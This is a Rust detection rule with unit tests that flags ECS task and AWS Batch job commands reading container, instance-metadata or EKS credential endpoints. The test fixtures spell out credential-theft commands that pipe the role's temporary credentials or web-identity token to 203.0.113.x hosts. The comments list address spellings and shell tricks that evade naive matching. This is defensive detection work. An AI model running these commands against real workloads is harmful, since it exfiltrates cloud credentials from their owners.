//! An ECS task definition or task whose container command reads the task role's
//! credential endpoint (`$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`): `RegisterTaskDefinition`
//! (container `command`, `entryPoint`, `healthCheck.command`: a health check runs in
//! the container with its environment), `RunTask` or `StartTask` (command overrides),
//! or `ExecuteCommand` (a command run in a running container), successfully. The
//! containers' environment values (and their overrides) are read the same way: a
//! command of `sh -c "$RUN"` runs whatever the definition or the launch puts in `RUN`.
//!
//! Sigma also lists `DescribeTaskDefinition`, whose request carries no container
//! definitions; we leave it out (the read returns what a register call already
//! showed). Attempts count only when they succeed: a rejected definition runs nothing.
//!
//! Beyond the variable's name, a command counts when it addresses the endpoint
//! itself: `169.254.170.2/v2/credentials` (the path the variable holds), or the
//! address followed at once by a shell expansion (`169.254.170.2$(printenv | ...)`,
//! a way around the name), with shell quoting or one `/` in between
//! (`169.254.170.2"$P"`, `169.254.170.2/$P`). The address counts in the other spellings that curl and
//! wget take for it (decimal `2852039170`, hexadecimal `0xa9feaa02`, dotted octal
//! `0251.0376.0252.02`, IPv4-mapped IPv6 `[::ffff:a9fe:aa02]`), and with a port
//! (`169.254.170.2:80/v2/...`). Rarer spellings (`169.254.43522`, per-octet hex,
//! zero-padded octets, the long IPv6 form) are not listed: a name the command
//! builds at run time defeats any list, which is why the variable's name counts on
//! its own. The endpoint's metadata and stats paths stay quiet.
//!
//! A task on EC2 capacity can read the instance's role from the instance metadata
//! service instead (from a second evasion review): a command naming
//! `169.254.169.254` (or `fd00:ec2::254`) and the credentials path
//! `security-credentials` counts too; the metadata service's other paths do not.
//!
//! AWS Batch runs its container jobs as ECS tasks with the job role behind the
//! same endpoint (sixth session, left out by the fifth session's review for want of
//! room in the group's EventBridge rule, now its second one): a job definition
//! (`RegisterJobDefinition`: container, multi-node and ECS properties) or a
//! submitted job's overrides (`SubmitJob`) whose commands, arguments or environment
//! values read it count the same way. They are found at any depth of the request
//! (`command`, `entryPoint`, `args`, and the values of `environment` or `env`), since
//! each job type nests its containers differently.

use serde_json::Value;

use crate::detection::{Detection, Meta, Severity, Signal, Trigger, fire};
use crate::detections::common::{call_context, request_text_any, texts_at_key, values_at_key};
use crate::event::Record;

pub struct EcsTaskDefinitionCredentialEndpoint;

const MARKER: &str = "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI";
/// The task credential endpoint's address, as written in the usual dotted form
/// and in the other forms HTTP clients take (lowercase: the command is compared
/// lowercased).
const ENDPOINT_SPELLINGS: [&str; 6] = [
    "169.254.170.2",
    "2852039170",
    "0xa9feaa02",
    "0251.0376.0252.02",
    "[::ffff:a9fe:aa02]",
    "[::ffff:169.254.170.2]",
];

/// `s` without the shell quoting it opens with: quoting between the endpoint's
/// address and what follows changes nothing.
fn unquoted(s: &str) -> &str {
    s.trim_start_matches(['"', '\''])
}

/// The command reads the credential endpoint: by the variable's name, by its path,
/// or through a shell expansion right after the endpoint's address (and port).
fn reads_credentials(command: &str) -> bool {
    if command.contains(MARKER) {
        return true;
    }
    let lower = command.to_ascii_lowercase();
    let instance_metadata = ["169.254.169.254", "fd00:ec2::254"].iter().any(|a| lower.contains(a));
    if instance_metadata && lower.contains("security-credentials") {
        return true;
    }
    ENDPOINT_SPELLINGS.iter().any(|address| {
        lower.match_indices(address).any(|(at, _)| {
            // Not the tail of a longer number or name (`1169.254.170.2`).
            let before = lower[..at].chars().next_back();
            if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '.') {
                return false;
            }
            let rest = &lower[at + address.len()..];
            let rest = match rest.strip_prefix(':') {
                Some(port) => port.trim_start_matches(|c: char| c.is_ascii_digit()),
                None => rest,
            };
            let rest = unquoted(rest);
            let expansion = |s: &str| unquoted(s).starts_with(['$', '`']);
            rest.starts_with("/v2/credentials")
                || expansion(rest)
                || rest.strip_prefix('/').is_some_and(expansion)
        })
    })
}

pub static META: Meta = Meta {
    id: "ecs-task-definition-credential-endpoint",
    title: "AWS ECS Task Definition That Queries The Credential Endpoint",
    description: "An ECS task (or an AWS Batch job, which runs as one) was defined or \
                  started with a command that reads the task role's credential endpoint. \
                  Ordinary applications let the SDK do that; a command that fetches it \
                  explicitly is typically sending the role's temporary credentials \
                  somewhere else.",
    severity: Severity::Medium,
    attack: &["T1552.005", "T1525"],
    origins: &["Sigma rules/cloud/aws/cloudtrail/aws_ecs_task_definition_cred_endpoint_query.yml"],
    group: "compute-network",
    false_positives: &[
        "Debugging or bootstrap scripts that print or cache credentials (a practice to \
         discourage anyway).",
    ],
    next_steps: "Read the full command of the task definition and where it sends the \
                 response. If the credentials left the task, revoke the role's sessions and \
                 review what the role did from outside AWS.",
    evidence: "cluster command family job_definition job_name job_queue job_role_arn region \
        source_ip task_definition task_role_arn user_agent",
    triggers: &[
        Trigger::write(
            "ecs.amazonaws.com",
            &["ExecuteCommand", "RegisterTaskDefinition", "RunTask", "StartTask"],
        ),
        Trigger::write(BATCH, &["RegisterJobDefinition", "SubmitJob"]),
    ],
    window: None,
};

const BATCH: &str = "batch.amazonaws.com";

/// The command strings of an AWS Batch job definition or submitted job, wherever
/// its job type nests its containers: `command`, `entryPoint` and `args` (a list of
/// strings or one string) and the values of `environment` or `env` (lists of
/// `name`, `value`).
fn batch_command_strings(params: &Value) -> Vec<&str> {
    let mut out = Vec::new();
    // A command's `Ref::name` takes the job's `parameters` (the definition's
    // defaults, or the submission's): their values are commands too (from a
    // review of the change).
    for map in values_at_key(params, "parameters") {
        out.extend(map.as_object().into_iter().flatten().filter_map(|(_, v)| v.as_str()));
    }
    for key in ["command", "entryPoint", "args"] {
        for value in values_at_key(params, key) {
            match value {
                Value::Array(parts) => out.extend(parts.iter().filter_map(Value::as_str)),
                Value::String(s) => out.push(s.as_str()),
                _ => {}
            }
        }
    }
    for key in ["environment", "env"] {
        for list in values_at_key(params, key) {
            let pairs = list.as_array().into_iter().flatten();
            out.extend(pairs.filter_map(|v| v.get("value")).filter_map(Value::as_str));
        }
    }
    out
}

/// The command strings of container definitions or overrides: `command`,
/// `entryPoint` and `healthCheck.command`, each a list of strings (or one string in
/// some producers), and the values of `environment` (a list of `name`, `value`).
pub(crate) fn command_strings(containers: Option<&Value>) -> Vec<&str> {
    let mut out = Vec::new();
    for c in containers.and_then(Value::as_array).into_iter().flatten() {
        let health = c.get("healthCheck").and_then(|h| h.get("command"));
        for value in [c.get("command"), c.get("entryPoint"), health] {
            match value {
                Some(Value::Array(parts)) => out.extend(parts.iter().filter_map(Value::as_str)),
                Some(Value::String(s)) => out.push(s),
                _ => {}
            }
        }
        let environment = c.get("environment").and_then(Value::as_array).into_iter().flatten();
        out.extend(environment.filter_map(|v| v.get("value")).filter_map(Value::as_str));
    }
    out
}

impl Detection for EcsTaskDefinitionCredentialEndpoint {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn evaluate(&self, rec: &Record<'_>) -> Option<Signal> {
        if !rec.succeeded() {
            return None;
        }
        if rec.event_source() == BATCH {
            return batch_job_reads_credentials(rec);
        }
        if rec.event_source() != "ecs.amazonaws.com" {
            return None;
        }
        let commands = match rec.event_name() {
            "RegisterTaskDefinition" => command_strings(rec.request_param("containerDefinitions")),
            "RunTask" | "StartTask" => command_strings(
                rec.request_param("overrides")
                    .and_then(|o| o.get("containerOverrides")),
            ),
            "ExecuteCommand" => rec.request_param_str("command").into_iter().collect(),
            _ => return None,
        };
        let hit = commands.iter().find(|c| reads_credentials(c))?;
        let e = call_context(rec)
            .with_opt("family", rec.request_param_str("family"))
            .with_opt("task_definition", rec.request_param_str("taskDefinition"))
            .with_opt("cluster", rec.request_param_str("cluster"))
            .with_opt("task_role_arn", rec.request_param_str("taskRoleArn"))
            .with("command", *hit);
        fire(e)
    }
}

/// A Batch job on EKS reads its pod's role another way (from a review of the
/// change): the web identity token IRSA mounts (`AWS_WEB_IDENTITY_TOKEN_FILE`,
/// the service account token's path) or the Pod Identity agent
/// (`AWS_CONTAINER_CREDENTIALS_FULL_URI`, `169.254.170.23`).
fn reads_eks_credentials(command: &str) -> bool {
    ["AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_CONTAINER_CREDENTIALS_FULL_URI"]
        .iter()
        .any(|marker| command.contains(marker))
        || ["eks.amazonaws.com/serviceaccount/token", "169.254.170.23"]
            .iter()
            .any(|path| command.to_ascii_lowercase().contains(path))
}

/// An AWS Batch job defined or submitted with a command that reads the credential
/// endpoint: the job's names and role in the evidence.
fn batch_job_reads_credentials(rec: &Record<'_>) -> Option<Signal> {
    if !matches!(rec.event_name(), "RegisterJobDefinition" | "SubmitJob") {
        return None;
    }
    let params = rec.request_parameters()?;
    let commands = batch_command_strings(params);
    let hit = commands
        .iter()
        .find(|c| reads_credentials(c) || reads_eks_credentials(c))?;
    let role = ["jobRoleArn", "taskRoleArn"]
        .iter()
        .find_map(|key| texts_at_key(params, key).into_iter().next());
    let e = call_context(rec)
        .with_opt("job_definition", request_text_any(rec, &["jobDefinitionName", "jobDefinition"]))
        .with_opt("job_name", rec.request_param_str("jobName"))
        .with_opt("job_queue", rec.request_param_str("jobQueue"))
        .with_opt("job_role_arn", role)
        .with("command", *hit);
    fire(e)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detections::common::compute_testing::{ACCESS_DENIED, IAM_USER, ROLE, record};
    use crate::detections::common::testing::fires;

    fn register(command: &str) -> String {
        format!(
            r#"{{"family":"worker","taskRoleArn":"arn:aws:iam::111122223333:role/WorkerTask",
            "containerDefinitions":[{{"name":"app","image":"public.ecr.aws/docker/library/alpine:3.20",
            "command":{command}}}]}}"#
        )
    }

    const STEAL: &str = r#"["sh","-c","curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://203.0.113.77/"]"#;

    #[test]
    fn fires_on_register_and_run_task_overrides() {
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", IAM_USER, &register(STEAL), "")));
        let as_text = register(r#""wget -qO- 169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}""#);
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &as_text, "")));
        let run = format!(r#"{{"cluster":"prod","taskDefinition":"worker:3","overrides":{{"containerOverrides":[{{"name":"app","command":{STEAL}}}]}}}}"#);
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RunTask", ROLE, &run, "")));
    }

    #[test]
    fn the_instance_roles_credentials_read_from_imds_count() {
        for command in [
            "R=$(wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/); wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/$R",
            "curl -s http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/web",
        ] {
            assert!(reads_credentials(command), "{command}");
        }
        assert!(!reads_credentials("curl -s http://169.254.169.254/latest/meta-data/instance-id"));
        assert!(!reads_credentials("echo security-credentials"));
    }

    #[test]
    fn the_endpoint_read_without_the_variable_name_counts() {
        for command in [
            "curl -s 169.254.170.2$(printenv | grep _RELATIVE_URI | cut -d= -f2)",
            "curl 169.254.170.2/v2/credentials/8a7b6c5d-0000-4000-8000-000000000001",
            "wget -qO- 169.254.170.2${RELATIVE}",
            "curl -s 2852039170$(printenv | grep _RELATIVE_URI | cut -d= -f2)",
            "curl -s 0xA9FEAA02/v2/credentials/x",
            "curl -s 0251.0376.0252.02$RELATIVE",
            "curl -s http://[::ffff:a9fe:aa02]/v2/credentials/x",
            "curl -s 169.254.170.2:80/v2/credentials/x",
            // Shell quoting or a slash between the address and the expansion.
            r#"curl 169.254.170.2"$P" | curl -d @- https://203.0.113.77/"#,
            "curl 169.254.170.2'$P'",
            "curl 169.254.170.2/$P",
            r#"curl "169.254.170.2"/v2/credentials/x"#,
            r#"curl "169.254.170.2"/$P"#,
        ] {
            assert!(reads_credentials(command), "{command}");
        }
        for command in [
            "curl -s 169.254.170.2/v2/metadata",
            "curl -s 169.254.170.2/v2/stats",
            "curl -s 169.254.170.23/v2/credentials",
            "curl -s 12852039170/v2/credentials",
            "curl -s 169.254.170.2:80/v2/metadata",
            "curl -s 169.254.170.2/v2/metadata/$TASK",
            "169.254.170.2,169.254.169.254,localhost",
            // An escaped dollar is a literal, not an expansion.
            r"echo 169.254.170.2\$P",
            "python app.py",
        ] {
            assert!(!reads_credentials(command), "{command}");
        }
    }

    #[test]
    fn ordinary_commands_failures_and_missing_fields_do_not_fire() {
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &register(r#"["python","worker.py"]"#), "")));
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &register("null"), "")));
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &register(STEAL), ACCESS_DENIED)));
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, "null", "")));
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "DeregisterTaskDefinition", ROLE, &register(STEAL), "")));
    }

    #[test]
    fn a_command_kept_in_the_environment_counts() {
        let in_env = r#"{"family":"worker","containerDefinitions":[{"name":"app","image":"alpine:3.20",
            "command":["sh","-c","$RUN"],
            "environment":[{"name":"NO_PROXY","value":"169.254.170.2,169.254.169.254"},
                {"name":"RUN","value":"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://203.0.113.77/"}]}]}"#;
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, in_env, "")));
        let at_launch = r#"{"cluster":"prod","taskDefinition":"worker:3","overrides":{"containerOverrides":[{"name":"app",
            "environment":[{"name":"RUN","value":"wget -qO- 169.254.170.2/$P"}]}]}}"#;
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RunTask", ROLE, at_launch, "")));
        let proxy_only = r#"{"family":"worker","containerDefinitions":[{"name":"app","image":"alpine:3.20",
            "environment":[{"name":"NO_PROXY","value":"169.254.170.2,169.254.169.254"},{"name":"PORT","value":"8080"}]}]}"#;
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, proxy_only, "")));
    }

    /// Sixth session: AWS Batch jobs run as ECS tasks with the job role behind the
    /// same endpoint.
    #[test]
    fn batch_jobs_reading_the_endpoint_count() {
        let d = &EcsTaskDefinitionCredentialEndpoint;
        for (name, params) in [
            ("RegisterJobDefinition", format!(r#"{{"jobDefinitionName":"nightly-etl","type":"container","containerProperties":{{"image":"alpine:3.20","command":{STEAL},"jobRoleArn":"arn:aws:iam::111122223333:role/EtlJob"}}}}"#)),
            ("RegisterJobDefinition", format!(r#"{{"jobDefinitionName":"mpi","type":"multinode","nodeProperties":{{"numNodes":2,"mainNode":0,"nodeRangeProperties":[{{"targetNodes":"0:","container":{{"image":"alpine","command":{STEAL}}}}}]}}}}"#)),
            ("RegisterJobDefinition", r#"{"jobDefinitionName":"ecs-style","ecsProperties":{"taskProperties":[{"taskRoleArn":"arn:aws:iam::111122223333:role/EtlJob","containers":[{"name":"app","image":"alpine","command":["sh","-c","$RUN"],"environment":[{"name":"RUN","value":"wget -qO- 169.254.170.2/$P"}]}]}]}}"#.to_string()),
            ("SubmitJob", format!(r#"{{"jobName":"adhoc","jobQueue":"default","jobDefinition":"nightly-etl:4","containerOverrides":{{"command":{STEAL}}}}}"#)),
            ("SubmitJob", r#"{"jobName":"adhoc","jobQueue":"default","jobDefinition":"nightly-etl:4","containerOverrides":{"environment":[{"name":"RUN","value":"curl -s 169.254.169.254/latest/meta-data/iam/security-credentials/"}]}}"#.to_string()),
        ] {
            match crate::detections::common::testing::eval(d, &record(BATCH, name, ROLE, &params, "")) {
                Some(Signal::Fire(e)) => assert!(e.get("command").is_some(), "{params}"),
                other => panic!("{name} {params}: expected a finding, got {other:?}"),
            }
        }
        // From a review of the change: the command in the job's parameters, and
        // a job on EKS reading its pod's role.
        for (name, params) in [
            ("RegisterJobDefinition", r#"{"jobDefinitionName":"x","containerProperties":{"image":"alpine","command":["/bin/sh","-c","Ref::payload"]},"parameters":{"payload":"curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://203.0.113.250/c"}}"#),
            ("SubmitJob", r#"{"jobName":"x","jobQueue":"q","jobDefinition":"x:1","parameters":{"payload":"wget -qO- 169.254.170.2/$P"}}"#),
            ("RegisterJobDefinition", r#"{"jobDefinitionName":"eks","eksProperties":{"podProperties":{"containers":[{"image":"alpine","command":["sh","-c"],"args":["curl -d @$AWS_WEB_IDENTITY_TOKEN_FILE https://203.0.113.250/t"]}]}}}"#),
            ("RegisterJobDefinition", r#"{"jobDefinitionName":"eks","eksProperties":{"podProperties":{"containers":[{"image":"alpine","command":["sh","-c","curl -s $AWS_CONTAINER_CREDENTIALS_FULL_URI -H \"Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)\""]}]}}}"#),
        ] {
            assert!(fires(d, &record(BATCH, name, ROLE, params, "")), "{params}");
        }
        let ordinary = r#"{"jobDefinitionName":"nightly-etl","type":"container","containerProperties":{"image":"alpine:3.20","command":["python","etl.py","Ref::day"],"environment":[{"name":"NO_PROXY","value":"169.254.170.2,169.254.169.254"}]},"parameters":{"day":"2026-05-12"}}"#;
        assert!(!fires(d, &record(BATCH, "RegisterJobDefinition", ROLE, ordinary, "")));
        let steal = format!(r#"{{"jobName":"adhoc","jobQueue":"default","jobDefinition":"etl:4","containerOverrides":{{"command":{STEAL}}}}}"#);
        assert!(!fires(d, &record(BATCH, "SubmitJob", ROLE, &steal, ACCESS_DENIED)));
        assert!(!fires(d, &record(BATCH, "CreateComputeEnvironment", ROLE, &steal, "")));
        assert!(!fires(d, &record(BATCH, "SubmitJob", ROLE, "null", "")));
    }

    #[test]
    fn health_checks_started_tasks_and_exec_commands_count() {
        let health = format!(
            r#"{{"family":"web","containerDefinitions":[{{"name":"web","image":"nginx","command":["nginx"],"healthCheck":{{"command":{STEAL},"interval":30}}}}]}}"#
        );
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "RegisterTaskDefinition", ROLE, &health, "")));
        let start = format!(r#"{{"cluster":"prod","taskDefinition":"web:7","overrides":{{"containerOverrides":[{{"name":"web","command":{STEAL}}}]}}}}"#);
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "StartTask", ROLE, &start, "")));
        let exec = r#"{"cluster":"prod","task":"arn:aws:ecs:us-east-1:111122223333:task/prod/0a1b2c","container":"web","interactive":true,
            "command":"sh -c 'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'"}"#;
        assert!(fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "ExecuteCommand", ROLE, exec, "")));
        let shell = r#"{"cluster":"prod","task":"t","container":"web","interactive":true,"command":"/bin/sh"}"#;
        assert!(!fires(&EcsTaskDefinitionCredentialEndpoint, &record("ecs.amazonaws.com", "ExecuteCommand", ROLE, shell, "")));
    }
}
